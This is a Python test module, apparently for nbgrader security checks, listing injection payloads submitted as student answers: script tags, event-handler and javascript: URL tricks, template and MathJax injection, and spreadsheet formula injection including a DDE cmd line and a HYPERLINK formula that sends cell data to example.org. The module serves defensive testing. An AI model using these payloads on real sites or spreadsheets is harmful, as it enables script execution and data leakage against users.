"""Texts that try to run in the page, the program or the terminal that shows them. Each sets ``window.owned`` where it can."""

from attacks.trick import Trick, answered

INJECTIONS = {
    "inject-script": "<script>window.owned = 1</script>",
    "inject-image": "<img src=x onerror='window.owned = 2'>",
    "inject-svg": "<svg onload='window.owned = 3'><circle r=9></circle></svg>",
    "inject-frame": '<iframe srcdoc="<script>parent.owned = 4</script>"></iframe>',
    "inject-out-of-text": "</textarea></title></style></blockquote></pre><script>window.owned = 5</script>",
    "inject-entities": "&lt;script&gt;window.owned = 6&lt;/script&gt;",
    "inject-markdown": "[read this](javascript:window.owned=7) ![x](x'onerror='window.owned=7)",
    "inject-link": "<a href='javascript:window.owned = 8' autofocus onfocus='window.owned = 8'>my sources</a>",
    "inject-mathjax": "$\\href{javascript:window.owned=9}{x}$ $$\\unicode{<img src=x onerror=window.owned=9>}$$",
    "inject-template": "{{ 7 * 7 }} {% raw %} ${window.owned=10}",
    "inject-style": "<style>body{display:none}</style><link rel=stylesheet href=x onerror='window.owned = 11'>",
    "inject-form": "<form action='javascript:window.owned=12'><button formaction='javascript:window.owned=12'>go</button></form>",
    "inject-refresh": "<meta http-equiv=refresh content='0;url=javascript:window.owned=13'><base href='//example.org/'>",
    "inject-details": "<details open ontoggle='window.owned = 14'><summary>x</summary></details>",
    "inject-formula": '=HYPERLINK("http://example.org/?"&A1)',
    "inject-plus": "+1+cmd|' /C calc'!A0",
    "inject-minus": "-1+1",
    "inject-at": "@SUM(1+1)",
    "inject-tab": "\t=1+1",
    "inject-return": "\r=1+1",
}
"""Name → text."""

IN_A_TABLE = "not tried: its tables hold no text of a student's"
STOCK = {
    "inject-entities": "does not run it",
    "inject-template": "does not run it",
    "inject-refresh": "does not run it",
    **dict.fromkeys((name for name, text in INJECTIONS.items() if text.strip()[0] in "=+-@"), IN_A_TABLE),
}
"""What stock nbgrader does with a text that it does not run where a tutor reads it."""

INJECTED = tuple(
    Trick(name, "full", answered("q10", text), stock=STOCK.get(name, "runs it")) for name, text in INJECTIONS.items()
)
"""The same, each as a student's paragraph."""
